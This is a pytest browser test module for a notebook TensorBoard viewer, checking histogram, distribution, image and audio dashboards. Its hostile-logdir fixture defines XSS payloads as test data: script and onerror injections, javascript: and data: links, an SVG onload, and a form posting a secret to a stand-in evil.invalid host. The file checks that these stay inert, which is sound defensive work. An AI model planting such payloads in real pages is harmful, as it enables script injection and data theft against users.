"""The Board's dashboards beyond scalars in a real browser (JupyterLab 4 and Notebook 7): histograms,
distributions, images, audio and text on a logdir written by torch, and hostile content (a
logdir anyone may write) that must stay inert text.

One notebook per front end (module-scoped, to keep the run short) holds two boards: ``board`` on
the torch logdir (cell C_SHOW) and ``hostile`` on the hostile one (cell C_HOSTILE, with
``max_blob_bytes = 2000``). Before any cell runs, the page gets a sentinel ``window.__pwned = 0``
that every planted payload would change, and a dialog recorder. Each test checks what it changes
against the state it finds, so that they do not depend on running in order; the last one checks
what the page requested and logged during all of them and saves a screenshot of every dashboard
tab (tests/artifacts/dash-<tab>-<front end>.png).

Chart data is read from plotly's own state on the chart element (``el.data``, ``el._fullLayout``),
i.e. what is drawn; images from their pixels (a canvas), audio from the <audio> element.
"""

from __future__ import annotations

import re
import shutil
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from .graph_logs import HOSTILE_ATTR, HOSTILE_NODE, HOSTILE_OP, HOSTILE_SCOPE, hostile_graph_def
from .harness import (
    BoardPage,
    BrowserLog,
    JupyterServer,
    assert_no_js_errors,
    assert_only_loopback,
    open_notebook,
    own_page,
    printed_json,
    run_cell,
    screenshot,
)

pytestmark = pytest.mark.ui

NB = "dashboards.ipynb"
TABS = ("timeseries", "scalars", "histograms", "distributions", "images", "audio", "text", "projector")

# --------------------------------------------------------------------------------------------------
# The torch logdir
# --------------------------------------------------------------------------------------------------

RUNS = ("run_a", "run_b")
HIST_TAGS = ("activations/relu", "weights/dense")
HIST_STEPS = range(20)
IMAGE_STEPS = (0, 5, 10, 15, 20)
AUDIO_STEPS = (0, 1, 2)
AUDIO_RATE = 16_000
AUDIO_SECONDS = 0.25
#: Written by torch: add_image (one image), add_images (a batch of 3: torch tiles it into one
#: image, 3 wide); written TF2-style by tbnb.testing.EventWriter: a real batch of 3 images a step.
IMG_SINGLE, IMG_GRID, IMG_BATCH = "images/single", "images/grid", "images/batch"
IMG_H, IMG_W = 24, 32
BATCH = 3
#: torch's add_text: the tag gets "/text_summary" and the tensor has shape [1] (TensorBoard shows
#: it as a one-cell table whose cell is Markdown). TF2's tf.summary.text: a rank-0 tensor.
TEXT_TORCH, TEXT_RANK0 = "notes/text_summary", "notes/markdown"
TEXT_STEPS = (0, 1)

PALETTE = np.array(
    [(230, 25, 75), (60, 180, 75), (0, 130, 200), (245, 130, 48), (145, 30, 180), (70, 240, 240),
     (240, 50, 230), (210, 245, 60), (0, 128, 128), (170, 110, 40)],
    dtype=np.uint8,
)


def image_color(run: str, tag: str, step: int, item: int = 0) -> tuple[int, int, int]:
    """A distinct colour per run, tag, step and batch item (so that a step change shows)."""
    k = RUNS.index(run) * 3 + (IMG_SINGLE, IMG_GRID, IMG_BATCH).index(tag) + IMAGE_STEPS.index(step) + 4 * item
    return tuple(int(c) for c in PALETTE[k % len(PALETTE)])


def solid(color: tuple[int, int, int]) -> np.ndarray:
    img = np.empty((IMG_H, IMG_W, 3), dtype=np.uint8)
    img[:] = color
    return img


def notes_markdown(step: int) -> str:
    return (
        f"## Run notes, step {step}\n\n"
        "| param | value |\n|-------|-------|\n"
        f"| lr | {0.1 / (step + 1):g} |\n| batch | 64 |\n\n"
        f"- first point of step {step}\n- second point\n\n"
        "See [the docs](https://example.com/docs) and call `train_step()`.\n\n"
        "```python\nprint('hello')\n```\n"
    )


def audio_frequency(step: int) -> float:
    return 220.0 * 2**step


def hist_values(run: str, tag: str, step: int, rng: np.random.Generator) -> np.ndarray:
    """Distinct shapes: normal drifting right, uniform widening, relu'd normal, bimodal."""
    if tag == "weights/dense":
        if run == "run_a":
            return rng.normal(step / 10, 1.0, 1000)
        return rng.uniform(-1 - step / 10, 1 + step / 10, 1000)
    if run == "run_a":
        return np.maximum(rng.normal(step / 20, 1.0, 1000), 0)
    return np.concatenate([rng.normal(-2, 0.5, 500), rng.normal(2 + step / 10, 0.5, 500)])


def write_good_logdir(logdir: Path) -> None:
    from torch.utils.tensorboard import SummaryWriter

    from tbnb.testing import EventWriter

    rng = np.random.default_rng(3)
    for run in RUNS:
        writer = SummaryWriter(str(logdir / run))
        try:
            for step in HIST_STEPS:
                writer.add_scalar("loss", float(np.exp(-step / 8) + 0.05 * rng.random()), step)
                for tag in HIST_TAGS:
                    writer.add_histogram(tag, hist_values(run, tag, step, rng), step)
            for step in IMAGE_STEPS:
                writer.add_image(IMG_SINGLE, solid(image_color(run, IMG_SINGLE, step)), step, dataformats="HWC")
                batch = np.stack([solid(image_color(run, IMG_GRID, step, i)) for i in range(BATCH)])
                writer.add_images(IMG_GRID, batch, step, dataformats="NHWC")
            t = np.arange(int(AUDIO_RATE * AUDIO_SECONDS)) / AUDIO_RATE
            for step in AUDIO_STEPS:
                tone = 0.5 * np.sin(2 * np.pi * audio_frequency(step) * t)
                writer.add_audio("audio/sine", tone.astype(np.float32), step, sample_rate=AUDIO_RATE)
            for step in TEXT_STEPS:
                writer.add_text("notes", notes_markdown(step), step)
            writer.flush()
        finally:
            writer.close()
        # What torch cannot write: a real batch (TF2's images tensor) and rank-0 text.
        with EventWriter(logdir / run) as ew:
            for step in IMAGE_STEPS:
                batch = np.stack([solid(image_color(run, IMG_BATCH, step, i)) for i in range(BATCH)])
                ew.add_image(IMG_BATCH, batch, step, tf2=True)
            if run == RUNS[0]:
                for step in TEXT_STEPS:
                    ew.add_text(TEXT_RANK0, notes_markdown(step), step)


# --------------------------------------------------------------------------------------------------
# The hostile logdir
# --------------------------------------------------------------------------------------------------

#: A run directory name and a tag name (both legal: any byte but "/" and NUL in a Linux name).
HOSTILE = "<img src=x onerror=window.__pwned=4>"
PLAIN = "plain"
MAX_BLOB_BYTES = 2000  # the hostile Markdown (about 1.2 KB) fits, BIG_TEXT (5 KB) does not
HOSTILE_MARKDOWN = """# Hostile notes

<script>window.__pwned=1</script>

<img src=x onerror="window.__pwned=2">

<img src=y onerror="alert('pwned')">

[click me](javascript:window.__pwned=3)

[jump](  JaVaScRiPt:window.__pwned=30)

[data link](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3BlbmVyLl9fcHduZWQ9MzE8L3NjcmlwdD4=)

![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)

<iframe srcdoc="<script>parent.__pwned=7</script>"></iframe>

<svg onload="window.__pwned=8"><circle r="5"></circle></svg>

<style>body{display:none}</style>

<form action="https://evil.invalid/steal"><input name="q" value="secret"><button>Send</button></form>

<details open ontoggle="window.__pwned=9"><summary>toggle</summary>inside</details>

<a href="https://example.com/ok" onclick="window.__pwned=12" target="_self">a safe link</a>

<object data="javascript:window.__pwned=13"></object><embed src="javascript:window.__pwned=14">

<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=15"></style></mglyph></table></mtext></math>

<div style="position:fixed;inset:0;background:red" class="jp-Dialog" id="hijack">overlay</div>

**still bold** and `still code`
"""
#: An "image" that is SVG with script: never to be shown as an image or inlined.
SVG_BYTES = b'<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=5"><script>window.__pwned=6</script></svg>'
HTML_AUDIO = b'<html><body><script>window.__pwned=16</script></body></html>'
#: A layout regex that does not compile (its chart says so; the chart's other regex still draws).
HOSTILE_REGEX = "(<b>unclosed"
BIG_TEXT = "# Too big\n\n" + "<script>window.__pwned=17</script> lorem ipsum dolor sit amet. " * 80


def write_hostile_logdir(logdir: Path) -> None:
    from torch.utils.tensorboard import SummaryWriter

    from tbnb.format.proto import event_pb2, summary_pb2, tensor_pb2, types_pb2
    from tbnb.testing import EventWriter, encode_wav

    rng = np.random.default_rng(5)
    # The plain run, written by torch: a scalar tag with a hostile name, hostile Markdown in
    # torch's text form (a [1] tensor).
    writer = SummaryWriter(str(logdir / PLAIN))
    try:
        for step in range(5):
            writer.add_scalar(HOSTILE, float(step), step)
        writer.add_text("torch", HOSTILE_MARKDOWN, 0)
        # A custom-scalars layout whose titles and regexes are markup; one regex does not compile.
        writer.add_custom_scalars({HOSTILE: {HOSTILE: ["Multiline", [HOSTILE, HOSTILE_REGEX]]}})
        # An hparams trial (a sub-run) whose hparam name and value and metric name are hostile (the
        # metric does not start with HOSTILE, so the layout's regex above does not draw it too).
        writer.add_hparams({"optimizer": HOSTILE, HOSTILE: 0.5}, {f"metric/{HOSTILE}": 0.25})
        # An embedding whose metadata (a column name and values) is hostile: the projector's
        # toolbar, legend and labels must show it as text.
        writer.add_embedding(rng.normal(size=(6, 4)).astype(np.float32),
                             metadata=[(HOSTILE if i % 2 else "<b>bold</b>", f"row{i}") for i in range(6)],
                             metadata_header=[HOSTILE, "name"], tag="evil")
        writer.flush()
    finally:
        writer.close()

    with EventWriter(logdir / HOSTILE) as ew:
        ew.add_graph_def(hostile_graph_def())  # node, op and attribute names that are markup
        for step in range(5):
            ew.add_scalar(HOSTILE, float(5 - step), step)
            ew.add_histogram("evil/hist", rng.normal(step, 1, 500), step)
        ew.add_text("evil/markdown", HOSTILE_MARKDOWN, 0)
        ew.add_text("evil/big", BIG_TEXT, 0)
        ew.add_text(f"{HOSTILE}/text", "plain **text** under a hostile tag", 0)
        # TF1 Summary.Image whose bytes are SVG (the file claims a PNG-ish image)
        img = summary_pb2.Summary.Image(height=10, width=10, colorspace=4, encoded_image_string=SVG_BYTES)
        ew.add_event(event_pb2.Event(wall_time=1.7e9, step=0, summary=summary_pb2.Summary(
            value=[summary_pb2.Summary.Value(tag="evil/svg", image=img)])))
        # TF2 images tensor [w, h, svg]
        tensor = tensor_pb2.TensorProto(
            dtype=types_pb2.DT_STRING, string_val=[b"10", b"10", SVG_BYTES],
            tensor_shape=tensor_pb2.TensorShapeProto(dim=[tensor_pb2.TensorShapeProto.Dim(size=3)]))
        value = summary_pb2.Summary.Value(tag="evil/svg_tf2", tensor=tensor)
        value.metadata.plugin_data.plugin_name = "images"
        ew.add_event(event_pb2.Event(wall_time=1.7e9, step=0, summary=summary_pb2.Summary(value=[value])))
        # An image under a hostile tag name (a real PNG, shown)
        ew.add_image(f"{HOSTILE}/image", solid((200, 40, 40)), 0)
        # "Audio" that is HTML, with a WAV content type claimed; and a WAV over max_blob_bytes
        audio = summary_pb2.Summary.Audio(sample_rate=8000, num_channels=1, length_frames=10,
                                          encoded_audio_string=HTML_AUDIO, content_type="audio/wav")
        ew.add_event(event_pb2.Event(wall_time=1.7e9, step=0, summary=summary_pb2.Summary(
            value=[summary_pb2.Summary.Value(tag="evil/html_audio", audio=audio)])))
        big = encode_wav(np.zeros(4000), 8000)
        assert len(big) > MAX_BLOB_BYTES
        audio = summary_pb2.Summary.Audio(sample_rate=8000, num_channels=1, length_frames=4000,
                                          encoded_audio_string=big, content_type="audio/wav")
        ew.add_event(event_pb2.Event(wall_time=1.7e9, step=0, summary=summary_pb2.Summary(
            value=[summary_pb2.Summary.Value(tag="evil/big_audio", audio=audio)])))


# --------------------------------------------------------------------------------------------------
# The notebook
# --------------------------------------------------------------------------------------------------

C_SHOW, C_HIST, C_OVERLAY, C_OFFSET, C_TEXT, C_HOSTILE, C_STATE = range(7)


def notebook_cells(good: Path, evil: Path) -> list[str]:
    return [
        f"import json\nimport tbnb\nboard = tbnb.show({str(good)!r}, reload_interval=0)",
        'board.dashboard = "histograms"',
        'board.histogram_mode = "overlay"',
        'board.histogram_mode = "offset"',
        'board.dashboard = "text"',
        f"hostile = tbnb.show({str(evil)!r}, reload_interval=0)\nhostile.max_blob_bytes = {MAX_BLOB_BYTES}",
        (
            'print("STATE", json.dumps({"dashboard": board.dashboard, "histogram_mode": board.histogram_mode,\n'
            '                           "hostile": hostile.dashboard}))'
        ),
    ]


# --------------------------------------------------------------------------------------------------
# Page-side helpers
# --------------------------------------------------------------------------------------------------

# Whether a card is drawn: its sub line is not loading, nothing in it is loading, and a chart card
# has its plotly chart.
CARD_DRAWN_JS = """
(card) => {
  // The graph explorer has no sub line: it is drawn once its SVG holds nodes.
  if (card.dataset.kind === 'graph') return !!card.querySelector('svg.tbnb-graph-svg .tbnb-gnode');
  const sub = card.querySelector('.tbnb-card-sub');
  if (!sub || /loading/.test(sub.textContent)) return false;
  if (card.querySelector('.tbnb-loading')) return false;
  const kind = card.dataset.kind || 'scalars';
  if (['scalars', 'histograms', 'distributions'].includes(kind)) {
    const plot = card.querySelector('.js-plotly-plot');
    return !!plot && Array.isArray(plot.data);
  }
  if (kind === 'images' || kind === 'audio') {
    const items = card.querySelector('.tbnb-items');
    return !!items && items.children.length > 0;
  }
  if (kind === 'text') return !!card.querySelector('.tbnb-text-item, .tbnb-placeholder');
  return true;
}
"""

# Scroll every card of a board into view in turn (cards load and draw only when on screen) and
# wait until each is drawn; return the cards that were not (as "kind|tag|run").
SETTLE_JS = f"""
async (root) => {{
  const drawn = {CARD_DRAWN_JS};
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  const main = root.querySelector('.tbnb-main');
  const stuck = [];
  const cards = [...root.querySelectorAll('.tbnb-section:not(.tbnb-pinned) .tbnb-card')];
  for (const card of cards) {{
    card.scrollIntoView({{block: 'nearest'}});
    const t0 = performance.now();
    while (!drawn(card) && performance.now() - t0 < 15000) await sleep(50);
    if (!drawn(card)) stuck.push([card.dataset.kind || 'scalars', card.dataset.tag, card.dataset.run || ''].join('|'));
  }}
  main.scrollTop = 0;
  return stuck;
}}
"""

#: Dashboards that declare `plotly: "full"` (their traces are not in plotly.js's cartesian build).
FULL_PLOTLY = {"hparams", "mesh", "projector"}
FULL_PLOTLY_JS = "() => { const p = globalThis.__tbnb_plotly__; return Boolean(p && p.loaded && p.loaded.full); }"

# plotly's state of a chart element: traces (as drawn) and the axes.
FIGURE_JS = """
(plot) => ({
  traces: plot.data.map((t) => ({
    type: t.type, mode: t.mode, fill: t.fill || null, n: (t.x || []).length,
    x: Array.from(t.x || []), y: Array.from(t.y || []),
    color: t.line && t.line.color, fillcolor: t.fillcolor || null,
  })),
  yaxis: {side: plot._fullLayout.yaxis.side, range: plot._fullLayout.yaxis.range.slice(),
          tickmode: plot._fullLayout.yaxis.tickmode},
  xaxis: {range: plot._fullLayout.xaxis.range.slice()},
})
"""

# The centre pixel's RGBA of each image (its natural size on a canvas), and for a tiled image
# the centre of each of `tiles` equal columns.
PIXELS_JS = """
(img, tiles) => {
  const c = document.createElement('canvas');
  c.width = img.naturalWidth; c.height = img.naturalHeight;
  const g = c.getContext('2d');
  g.drawImage(img, 0, 0);
  const out = [];
  for (let k = 0; k < tiles; k++) {
    const x = Math.floor((k + 0.5) * img.naturalWidth / tiles), y = Math.floor(img.naturalHeight / 2);
    out.push(Array.from(g.getImageData(x, y, 1, 1).data));
  }
  return out;
}
"""

# Everything in a board that could run script, leave the page or hide it: reported as strings.
AUDIT_JS = """
(root) => {
  const bad = [];
  const own = root.querySelector(':scope > style');
  const describe = (el) => `<${el.localName}${[...el.attributes].map((a) => ` ${a.name}="${a.value}"`).join('')}>`;
  for (const el of root.querySelectorAll('*')) {
    const name = el.localName;
    if (['script', 'iframe', 'frame', 'object', 'embed', 'form', 'link', 'meta', 'base', 'math'].includes(name)) {
      bad.push(describe(el));
    }
    // The board's own controls are fine; none may come from text.
    if (['input', 'textarea', 'select', 'button'].includes(name) && el.closest('.tbnb-markdown, .tbnb-text-table')) {
      bad.push(describe(el));
    }
    if (name === 'style' && el !== own && !(el.classList.contains('tbnb-graph-style') && el.closest('.tbnb-card-graph'))) bad.push(describe(el));
    if (name === 'svg' && !el.classList.contains('tbnb-icon') && !el.closest('.js-plotly-plot') && !el.classList.contains('tbnb-graph-svg')) bad.push(describe(el));
    for (const a of el.attributes) {
      const n = a.name.toLowerCase();
      if (n.startsWith('on')) bad.push(`${describe(el)}: handler ${n}`);
      if (/__pwned/.test(a.value) && !['title', 'alt', 'aria-label', 'value'].includes(n) && !n.startsWith('data-')) {
        bad.push(`${describe(el)}: payload in ${n}`);
      }
      if (['href', 'src', 'action', 'formaction', 'data', 'srcdoc', 'xlink:href'].includes(n)) {
        const v = a.value.replace(/[\\u0000-\\u0020]/g, '').toLowerCase();
        const ok = (n === 'href' && /^(https?:|mailto:)/.test(v)) || (n === 'src' && /^(https?:|blob:)/.test(v));
        if (!ok) bad.push(`${describe(el)}: ${n}`);
      }
    }
    if (el.parentElement && el.parentElement.closest('.tbnb-markdown') && (el.hasAttribute('style') || el.hasAttribute('id') || el.hasAttribute('class'))) {
      bad.push(`${describe(el)}: style/id/class from Markdown`);
    }
  }
  return bad;
}
"""


@dataclass
class Dash(BoardPage):
    dialogs: list[str] = field(default_factory=list)

    def tab(self, cell: int, dashboard: str):
        return self.board(cell).locator(f'.tbnb-tabs .tbnb-tab[data-dashboard="{dashboard}"]')

    def cards(self, cell: int, kind: str | None = None):
        sel = ".tbnb-section:not(.tbnb-pinned) .tbnb-card"
        if kind:
            sel += f'[data-kind="{kind}"]'
        return self.board(cell).locator(sel)

    def card(self, cell: int, kind: str, tag: str, run: str):
        return self.board(cell).locator(
            f'.tbnb-section:not(.tbnb-pinned) .tbnb-card[data-kind="{kind}"][data-tag="{tag}"][data-run="{run}"]'
        )

    def show_tab(self, cell: int, dashboard: str, *, click: bool = True) -> None:
        """Click the tab (unless it was set from Python) and wait until it is the one shown and
        every card of it is drawn."""
        from playwright.sync_api import expect

        if click:
            self.tab(cell, dashboard).click()
        expect(self.tab(cell, dashboard)).to_have_attribute("aria-selected", "true")
        if dashboard in FULL_PLOTLY:
            # The page has plotly.js's cartesian build; the first tab that draws with the full one
            # asks the kernel for it (4.8 MB) and runs it: that is not the cards' drawing time.
            self.page.wait_for_function(FULL_PLOTLY_JS, timeout=120_000)
        self.settle(cell)

    def settle(self, cell: int) -> None:
        stuck = self.board(cell).evaluate(SETTLE_JS)
        assert not stuck, f"{self.front_end}: cards not drawn within 15 s: {stuck}"

    def state(self) -> dict:
        return printed_json(self.page, NB, C_STATE, "STATE")

    def pwned(self) -> Any:
        return self.page.evaluate("() => window.__pwned")


@pytest.fixture(scope="module")
def nb(jupyter_server: JupyterServer, browser):
    """This front end's notebook, open in a page of its own, both boards shown."""
    pytest.importorskip("torch.utils.tensorboard")
    logdir = jupyter_server.root_dir / "dash-logs"
    shutil.rmtree(logdir, ignore_errors=True)
    write_good_logdir(logdir / "good")
    write_hostile_logdir(logdir / "evil")
    log = BrowserLog()
    with own_page(browser, log, jupyter_server) as page:
        s = Dash(jupyter_server, page, log, logdir)

        def on_dialog(dialog) -> None:
            s.dialogs.append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        jupyter_server.write_notebook(NB, notebook_cells(logdir / "good", logdir / "evil"))
        open_notebook(page, jupyter_server, NB)
        page.evaluate("() => { window.__pwned = 0; }")
        run_cell(page, NB, C_SHOW)
        run_cell(page, NB, C_HOSTILE)
        from playwright.sync_api import expect

        for cell in (C_SHOW, C_HOSTILE):
            expect(s.board(cell).locator(".tbnb-run-name")).not_to_have_count(0, timeout=60_000)
        yield s


# --------------------------------------------------------------------------------------------------
# 1. Histograms (set from Python): a plotly chart per tag and run; offset <-> overlay redraws
# --------------------------------------------------------------------------------------------------


def _figure(card) -> dict:
    return card.locator(".js-plotly-plot").evaluate(FIGURE_JS)


def test_histograms_from_python_and_mode(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    run_cell(s.page, NB, C_OFFSET)
    run_cell(s.page, NB, C_HIST)
    s.show_tab(cell, "histograms", click=False)
    cards = s.cards(cell, "histograms")
    expect(cards).to_have_count(len(HIST_TAGS) * len(RUNS))
    assert s.cards(cell).count() == len(HIST_TAGS) * len(RUNS), "only histogram cards on this tab"
    for tag in HIST_TAGS:
        for run in RUNS:
            card = s.card(cell, "histograms", tag, run)
            expect(card).to_have_count(1)
            expect(card.locator(".tbnb-card-title")).to_have_text(tag)
            expect(card.locator(".tbnb-card-run")).to_have_text(run)
            expect(card.locator(".tbnb-card-meta")).to_have_text(f" · {len(HIST_STEPS)} steps")
            fig = _figure(card)
            # OFFSET: a filled ridge per step, 30 bins + 2 baseline points each, time axis on the right.
            assert len(fig["traces"]) == len(HIST_STEPS), (tag, run, len(fig["traces"]))
            assert all(t["fill"] == "toself" and t["n"] == 32 for t in fig["traces"]), fig["traces"][0]
            assert fig["yaxis"]["side"] == "right"

    # Distinct shapes: run_b's bimodal relu histogram is wider than run_a's relu'd normal.
    widths = {}
    for run in RUNS:
        xs = [x for t in _figure(s.card(cell, "histograms", "activations/relu", run))["traces"] for x in t["x"]]
        widths[run] = max(xs) - min(xs)
    assert widths["run_b"] > 1.5 * widths["run_a"], widths

    card = s.card(cell, "histograms", "weights/dense", "run_a")
    card.scroll_into_view_if_needed()
    before = _figure(card)
    run_cell(s.page, NB, C_OVERLAY)
    card.scroll_into_view_if_needed()  # off-screen cards redraw when scrolled to
    s.page.wait_for_function(
        "(plot) => plot.data.length > 0 && plot.data.every((t) => !t.fill)",
        arg=card.locator(".js-plotly-plot").element_handle(), timeout=10_000,
    )
    after = _figure(card)
    assert after != before
    # OVERLAY: one line a step on a count axis from 0; same bins, heights = counts.
    assert len(after["traces"]) == len(HIST_STEPS)
    assert all(t["fill"] is None and t["n"] == 32 for t in after["traces"])
    assert after["yaxis"]["side"] != "right" and after["yaxis"]["range"][0] <= 0
    ys = [y for t in after["traces"] for y in t["y"]]
    assert min(ys) == 0 and max(ys) > 10, "overlay heights are bucket counts"
    assert [t["x"] for t in after["traces"]] == [t["x"] for t in before["traces"]]
    assert [t["y"] for t in after["traces"]] != [t["y"] for t in before["traces"]]
    assert s.state()["histogram_mode"] == "overlay"

    run_cell(s.page, NB, C_OFFSET)
    card.scroll_into_view_if_needed()
    s.page.wait_for_function(
        "(plot) => plot.data.length > 0 && plot.data.every((t) => t.fill === 'toself')",
        arg=card.locator(".js-plotly-plot").element_handle(), timeout=10_000,
    )
    assert _figure(card)["traces"] == before["traces"]


# --------------------------------------------------------------------------------------------------
# 2. Distributions (clicked): nested bands and a median per tag and run
# --------------------------------------------------------------------------------------------------


def test_distributions(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    s.show_tab(cell, "distributions")
    expect(s.cards(cell, "distributions")).to_have_count(len(HIST_TAGS) * len(RUNS))
    for tag in HIST_TAGS:
        for run in RUNS:
            fig = _figure(s.card(cell, "distributions", tag, run))
            traces = fig["traces"]
            # 4 bands (lower edge, upper edge filled to it) + the median line.
            assert len(traces) >= 9, (tag, run, len(traces))
            assert sum(1 for t in traces if t["fill"] == "tonexty") == 4
            for t in traces:
                assert t["x"] == [float(st) for st in HIST_STEPS], (tag, run, t["x"][:3])
            # Bands nest: min <= ... <= max at every step.
            edges = [np.array(t["y"]) for t in traces[:8]]
            lows, highs = edges[0::2], edges[1::2]
            for outer, inner in zip(lows, lows[1:]):
                assert np.all(outer <= inner + 1e-9)
            for outer, inner in zip(highs, highs[1:]):
                assert np.all(outer >= inner - 1e-9)
    # The drifting normal's median climbs about 1.9 over the 20 steps.
    median = _figure(s.card(cell, "distributions", "weights/dense", "run_a"))["traces"][-1]["y"]
    assert 1.3 < median[-1] - median[0] < 2.5, median


# --------------------------------------------------------------------------------------------------
# 3. Images (clicked): an <img> per image, decoded, with the written pixels; the slider changes it
# --------------------------------------------------------------------------------------------------


def _images(card) -> list[dict]:
    return card.locator(".tbnb-items img").evaluate_all(
        "(imgs) => imgs.map((i) => ({src: i.getAttribute('src'), w: i.naturalWidth, h: i.naturalHeight,"
        " complete: i.complete}))"
    )


def _wait_images(s: Dash, card, n: int, not_src: list[str] | None = None) -> list[dict]:
    s.page.wait_for_function(
        "([card, n, old]) => { const imgs = [...card.querySelectorAll('.tbnb-items img')];"
        " return imgs.length === n && imgs.every((i) => i.complete && i.naturalWidth > 0"
        " && !(old || []).includes(i.getAttribute('src'))); }",
        arg=[card.element_handle(), n, not_src], timeout=15_000,
    )
    return _images(card)


def _pixels(card, index: int, tiles: int = 1) -> list[tuple[int, int, int]]:
    img = card.locator(".tbnb-items img").nth(index)
    return [tuple(p[:3]) for p in img.evaluate(PIXELS_JS, tiles)]


def _close(got, want, tol: int = 3) -> bool:
    return all(abs(a - b) <= tol for a, b in zip(got, want))


def test_images(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    s.show_tab(cell, "images")
    tags = (IMG_BATCH, IMG_GRID, IMG_SINGLE)
    expect(s.cards(cell, "images")).to_have_count(len(tags) * len(RUNS))
    last = IMAGE_STEPS[-1]
    for tag in tags:
        for run in RUNS:
            card = s.card(cell, "images", tag, run)
            card.scroll_into_view_if_needed()
            n = BATCH if tag == IMG_BATCH else 1
            imgs = _wait_images(s, card, n)
            assert all(i["src"].startswith("blob:") for i in imgs), imgs
            expect(card.locator(".tbnb-step-text")).to_contain_text(f"step {last}")
            expect(card.locator(".tbnb-card-meta")).to_have_text(f" · {len(IMAGE_STEPS)} steps")
            if tag == IMG_GRID:  # torch tiles the batch into one image, 3 wide
                assert (imgs[0]["w"], imgs[0]["h"]) == (BATCH * IMG_W, IMG_H), imgs[0]
                got = _pixels(card, 0, BATCH)
                want = [image_color(run, tag, last, i) for i in range(BATCH)]
            else:
                assert all((i["w"], i["h"]) == (IMG_W, IMG_H) for i in imgs), imgs
                got = [_pixels(card, i)[0] for i in range(n)]
                want = [image_color(run, tag, last, i) for i in range(n)]
            assert all(_close(g, w) for g, w in zip(got, want)), f"{tag} {run}: pixels {got}, written {want}"

    # The step slider: to the first step (Home), then one right; the image and its pixels follow.
    for tag, n in ((IMG_SINGLE, 1), (IMG_BATCH, BATCH)):
        run = RUNS[0]
        card = s.card(cell, "images", tag, run)
        card.scroll_into_view_if_needed()
        old = [i["src"] for i in _images(card)]
        slider = card.locator("input.tbnb-step-slider")
        expect(slider).to_have_attribute("max", str(len(IMAGE_STEPS) - 1))
        slider.focus()
        s.page.keyboard.press("Home")
        _wait_images(s, card, n, old)
        expect(card.locator(".tbnb-step-text")).to_contain_text(re.compile(r"^step 0\b"))
        got = [_pixels(card, i)[0] for i in range(n)]
        assert all(_close(g, image_color(run, tag, 0, i)) for i, g in enumerate(got)), (tag, got)
        first = [i["src"] for i in _images(card)]
        slider.fill("1")  # the arrow keys: see test_step_slider_arrow_keys
        _wait_images(s, card, n, first)
        expect(card.locator(".tbnb-step-text")).to_contain_text(re.compile(rf"^step {IMAGE_STEPS[1]}\b"))
        got = [_pixels(card, i)[0] for i in range(n)]
        assert all(_close(g, image_color(run, tag, IMAGE_STEPS[1], i)) for i, g in enumerate(got)), (tag, got)
        slider.focus()
        s.page.keyboard.press("End")  # back to following the latest step
        expect(card.locator(".tbnb-step-text")).to_contain_text(f"step {last}")


def test_step_slider_arrow_keys(nb: Dash):
    """A focused step slider moves with the arrow keys, as every range input does. In JupyterLab
    and Notebook 7 the notebook's command-mode shortcuts take the keys of any focused element in
    an output that is not a text field (selector ``.jp-Notebook.jp-mod-commandMode:not(
    .jp-mod-readWrite) :focus``): ArrowLeft/ArrowRight run notebook:move-cursor-heading-*, so
    the slider does not move (and A, B, D D... would insert or delete cells). Lumino skips a
    binding when ``data-lm-suppress-shortcuts`` is on an element between the target and the
    one its selector matches: here that is the focused slider itself."""
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    if s.tab(cell, "images").get_attribute("aria-selected") != "true":
        s.show_tab(cell, "images")
    card = s.card(cell, "images", IMG_SINGLE, RUNS[0])
    card.scroll_into_view_if_needed()
    slider = card.locator("input.tbnb-step-slider")
    slider.focus()
    s.page.keyboard.press("Home")
    expect(card.locator(".tbnb-step-text")).to_contain_text(re.compile(r"^step 0\b"))
    try:
        s.page.keyboard.press("ArrowRight")
        s.page.wait_for_timeout(300)
        moved = slider.evaluate("(el) => [el.value, document.activeElement === el]")
        # The front end's shortcuts whose selector matches the focused slider.
        bindings = s.page.evaluate(
            "() => window.jupyterapp.commands.keyBindings.filter((b) => {"
            " try { return document.activeElement.matches(b.selector); } catch { return false; } })"
            ".map((b) => `${b.keys.join(' ')}: ${b.command}`)"
        )
        arrows = [b for b in bindings if b.startswith("ArrowRight:")]
        cells = [b for b in bindings if re.match(r"^(A|B|D D|X):", b)]
        assert moved == ["1", True], (
            f"{s.front_end}: ArrowRight on the focused step slider left it at value {moved[0]} "
            f"(focused: {moved[1]}): the notebook's command-mode shortcuts apply to it: {arrows}; also {cells}"
        )
        expect(card.locator(".tbnb-step-text")).to_contain_text(re.compile(rf"^step {IMAGE_STEPS[1]}\b"))
    finally:
        slider.focus()
        s.page.keyboard.press("End")


# --------------------------------------------------------------------------------------------------
# 4. Audio (clicked): an <audio> with a blob: URL that plays the written clip; the sample rate shown
# --------------------------------------------------------------------------------------------------


def test_audio(nb: Dash):
    from playwright.sync_api import expect

    s, cell = nb, C_SHOW
    s.show_tab(cell, "audio")
    expect(s.cards(cell, "audio")).to_have_count(len(RUNS))
    for run in RUNS:
        card = s.card(cell, "audio", "audio/sine", run)
        card.scroll_into_view_if_needed()
        audio = card.locator("audio.tbnb-audio")
        expect(audio).to_have_count(1)
        expect(audio).to_have_attribute("src", re.compile(r"^blob:"))
        expect(card.locator(".tbnb-blob-info")).to_be_visible()
        expect(card.locator(".tbnb-blob-info")).to_contain_text("16 kHz")
        expect(card.locator(".tbnb-step-text")).to_contain_text(f"step {AUDIO_STEPS[-1]}")
        # The browser decodes it: a WAV of the written length.
        s.page.wait_for_function("(a) => a.readyState >= 1 && Number.isFinite(a.duration)",
                                 arg=audio.element_handle(), timeout=10_000)
        duration = audio.evaluate("(a) => a.duration")
        assert duration == pytest.approx(AUDIO_SECONDS, abs=0.01), duration
    # Another step: another clip.
    card = s.card(cell, "audio", "audio/sine", RUNS[0])
    src = card.locator("audio").get_attribute("src")
    card.locator("input.tbnb-step-slider").focus()
    s.page.keyboard.press("Home")
